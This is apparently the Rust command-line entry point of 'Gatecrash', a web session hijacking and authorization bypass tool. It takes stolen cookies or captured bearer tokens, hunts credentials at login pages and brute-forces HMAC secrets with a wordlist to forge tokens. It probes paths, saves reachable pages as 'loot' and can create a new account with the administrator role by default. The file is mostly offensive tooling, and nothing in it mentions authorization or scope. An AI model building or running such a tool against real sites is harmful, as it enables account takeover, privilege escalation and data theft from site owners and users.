//! Gatecrash - web session hijack and authorization bypass probing
//!
//! Non-interactive front end: one run per invocation, report on stdout
//! or in a file.

use std::path::{Path, PathBuf};

use anyhow::Result;
use chrono::Utc;
use clap::Parser;
use tracing_appender::rolling::{RollingFileAppender, Rotation};
use tracing_subscriber::{fmt, layer::SubscriberExt, util::SubscriberInitExt, EnvFilter};

use gatecrash::app::Config;
use gatecrash::attack::NewAccount;
use gatecrash::forge::{inspect, Token};
use gatecrash::prober::save_loot;
use gatecrash::reporting::RunReport;
use gatecrash::session::AuthMode;
use gatecrash::target::{TargetConfig, TargetVariant};
use gatecrash::{ConfigError, Engine, GatecrashError, ResultExt};

/// Web session hijack and authorization bypass probing
#[derive(Parser, Debug)]
#[command(name = "gatecrash")]
#[command(author, version, about = "Web session hijack and authorization bypass probing", long_about = None)]
struct Cli {
    /// Configuration file path
    #[arg(short, long, env = "GATECRASH_CONFIG")]
    config: Option<String>,

    /// Target base URL
    #[arg(short, long, env = "GATECRASH_TARGET")]
    target: Option<String>,

    /// Application variant (wordpress, prestashop, generic)
    #[arg(long, default_value = "generic", env = "GATECRASH_VARIANT")]
    variant: TargetVariant,

    /// Raw cookie string to hijack
    #[arg(long, env = "GATECRASH_COOKIE", conflicts_with = "token")]
    cookie: Option<String>,

    /// Captured bearer token
    #[arg(long, env = "GATECRASH_TOKEN")]
    token: Option<String>,

    /// Login endpoint for credential hunting
    #[arg(long, env = "GATECRASH_LOGIN_PATH")]
    login_path: Option<String>,

    /// Login field as name=value (repeatable)
    #[arg(long = "credential", value_parser = parse_key_val)]
    credentials: Vec<(String, String)>,

    /// Candidate path to probe (repeatable); variant defaults when absent
    #[arg(long = "path")]
    paths: Vec<String>,

    /// HMAC secret wordlist, one candidate per line
    #[arg(long, env = "GATECRASH_WORDLIST")]
    wordlist: Option<PathBuf>,

    /// Username for the account-creation action
    #[arg(long, requires_all = ["new_email", "new_password"])]
    new_user: Option<String>,

    #[arg(long)]
    new_email: Option<String>,

    #[arg(long)]
    new_password: Option<String>,

    /// Role granted to the created account
    #[arg(long, default_value = "administrator")]
    new_role: String,

    /// Write the JSON report here instead of stdout
    #[arg(long, env = "GATECRASH_REPORT")]
    report: Option<PathBuf>,

    /// Save accessible pages into this directory
    #[arg(long, env = "GATECRASH_LOOT_DIR")]
    loot_dir: Option<PathBuf>,

    /// Override prober.max_concurrent
    #[arg(long, env = "GATECRASH_MAX_CONCURRENT")]
    max_concurrent: Option<usize>,

    /// Stop replaying forged tokens at the first bypass
    #[arg(long, env = "GATECRASH_STOP_ON_FIRST_SUCCESS")]
    stop_on_first_success: bool,

    /// Log level (trace, debug, info, warn, error)
    #[arg(long, default_value = "info", env = "GATECRASH_LOG_LEVEL")]
    log_level: String,

    /// Log file path (enables file logging)
    #[arg(long, env = "GATECRASH_LOG_FILE")]
    log_file: Option<String>,

    /// Enable JSON structured logging
    #[arg(long, env = "GATECRASH_LOG_JSON")]
    log_json: bool,

    /// Generate default configuration and exit
    #[arg(long)]
    generate_config: bool,

    /// Validate configuration and exit
    #[arg(long)]
    validate_config: bool,
}

fn parse_key_val(raw: &str) -> Result<(String, String), String> {
    raw.split_once('=')
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .ok_or_else(|| format!("expected name=value, got '{}'", raw))
}

#[tokio::main]
async fn main() -> Result<()> {
    let cli = Cli::parse();

    if cli.generate_config {
        println!("{}", Config::default().to_toml()?);
        return Ok(());
    }

    init_logging(&cli)?;

    tracing::info!(version = env!("CARGO_PKG_VERSION"), "Starting Gatecrash");

    let config = load_config(&cli).map_err(fail)?;

    if cli.validate_config {
        tracing::info!("Configuration is valid");
        return Ok(());
    }

    let report = tokio::select! {
        report = run(&cli, &config) => report.map_err(fail)?,
        _ = shutdown_signal() => {
            tracing::warn!("Run aborted, session dropped");
            return Ok(());
        }
    };

    match &cli.report {
        Some(path) => {
            report.save(path).map_err(fail)?;
            tracing::info!(path = %path.display(), "Report written");
        }
        None => println!("{}", report.to_json().map_err(fail)?),
    }

    Ok(())
}

/// Log the operator-facing hint before handing the error to anyhow
fn fail(err: GatecrashError) -> anyhow::Error {
    tracing::error!("{}", err.user_message());
    err.into()
}

/// Initialize the logging system. Console output goes to stderr so the
/// report on stdout stays machine-readable.
fn init_logging(cli: &Cli) -> Result<()> {
    let env_filter = EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new(&cli.log_level));

    let subscriber = tracing_subscriber::registry().with(env_filter);

    if let Some(log_path) = &cli.log_file {
        let path = Path::new(log_path);
        let file_appender = match path.parent().filter(|p| !p.as_os_str().is_empty()) {
            Some(dir) => {
                let filename = path.file_name().and_then(|s| s.to_str()).unwrap_or("gatecrash.log");
                RollingFileAppender::new(Rotation::DAILY, dir, filename)
            }
            None => {
                let log_dir = Config::data_dir()
                    .map(|d| d.join("logs"))
                    .unwrap_or_else(|_| PathBuf::from("."));
                std::fs::create_dir_all(&log_dir).ok();
                RollingFileAppender::new(Rotation::DAILY, log_dir, log_path)
            }
        };

        if cli.log_json {
            subscriber
                .with(fmt::layer().json().with_writer(file_appender).with_ansi(false))
                .init();
        } else {
            subscriber
                .with(fmt::layer().with_writer(file_appender).with_ansi(false))
                .init();
        }
    } else if cli.log_json {
        subscriber.with(fmt::layer().json().with_writer(std::io::stderr)).init();
    } else {
        subscriber.with(fmt::layer().with_writer(std::io::stderr)).init();
    }

    Ok(())
}

/// Load configuration with CLI overrides
fn load_config(cli: &Cli) -> Result<Config, GatecrashError> {
    let mut config = Config::load(cli.config.as_deref())?;

    if let Some(max_concurrent) = cli.max_concurrent {
        config.prober.max_concurrent = max_concurrent;
    }
    if cli.stop_on_first_success {
        config.attack.stop_on_first_success = true;
    }
    if let Some(path) = &cli.wordlist {
        let contents =
            std::fs::read_to_string(path).with_context(format!("Failed to read wordlist {}", path.display()))?;
        config.forge.wordlist = contents.lines().map(|l| l.trim_end_matches('\r').to_string()).collect();
        tracing::info!(candidates = config.forge.wordlist.len(), "Loaded secret wordlist");
    }

    config.validate()?;
    Ok(config)
}

/// One full run: establish a session, probe, attack, report
async fn run(cli: &Cli, config: &Config) -> Result<RunReport, GatecrashError> {
    let started_at = Utc::now();
    let raw_target = cli.target.as_deref().ok_or_else(|| ConfigError::ValidationError {
        field: "target".to_string(),
        reason: "--target is required".to_string(),
    })?;
    let target = TargetConfig::new(raw_target, cli.variant)?;
    let base_url = target.base_url().to_string();

    let mut engine = Engine::open(target, config)?;
    if let (Some(user), Some(email), Some(password)) = (&cli.new_user, &cli.new_email, &cli.new_password) {
        engine = engine.with_account(&NewAccount::new(user, email, password).with_role(&cli.new_role));
    }

    let mut report = RunReport::new(&base_url, cli.variant, started_at);

    if let Some(cookie) = &cli.cookie {
        let parsed = engine.inject(cookie)?;
        tracing::info!(cookies = parsed.credentials.len(), "Session cookies injected");
    } else if let Some(raw) = &cli.token {
        let token = engine.inject_token(raw)?;
        report.token_notes = inspect(&token);
    } else if let Some(login_path) = &cli.login_path {
        let result = engine.hunt(login_path, &cli.credentials).await;
        if result.mode() == AuthMode::Token {
            if let Ok(token) = Token::parse(result.artifact()) {
                report.token_notes = inspect(&token);
            }
        }
        report.login = Some(result);
    }

    let paths = if cli.paths.is_empty() {
        cli.variant.default_paths()
    } else {
        cli.paths.clone()
    };
    let probes = engine.probe(&paths).await;
    let accessible = probes.iter().filter(|p| p.is_accessible()).count();
    tracing::info!(probed = probes.len(), accessible, "Probe phase complete");

    if let Some(dir) = &cli.loot_dir {
        let saved = save_loot(dir, &probes)?;
        tracing::info!(files = saved.len(), dir = %dir.display(), "Loot saved");
    }

    let mode = engine.mode();
    if mode == AuthMode::None {
        tracing::info!("No session artifact, skipping attack phase");
    } else {
        let log = engine.attack(&probes, mode).await;
        tracing::info!(attempts = log.len(), successes = log.successes().count(), "Attack phase complete");
        report.attempts = log.into_vec();
    }

    report.auth_mode = mode;
    report.probes = probes;
    report.finish();
    engine.close();

    Ok(report)
}

/// Resolve on Ctrl-C or SIGTERM
async fn shutdown_signal() {
    #[cfg(unix)]
    {
        use tokio::signal::unix::{signal, SignalKind};

        match signal(SignalKind::terminate()) {
            Ok(mut sigterm) => {
                tokio::select! {
                    _ = tokio::signal::ctrl_c() => tracing::info!("Received SIGINT, aborting run"),
                    _ = sigterm.recv() => tracing::info!("Received SIGTERM, aborting run"),
                }
            }
            Err(e) => {
                tracing::warn!("Failed to register SIGTERM handler: {}", e);
                let _ = tokio::signal::ctrl_c().await;
            }
        }
    }

    #[cfg(not(unix))]
    {
        let _ = tokio::signal::ctrl_c().await;
        tracing::info!("Received Ctrl+C, aborting run");
    }
}
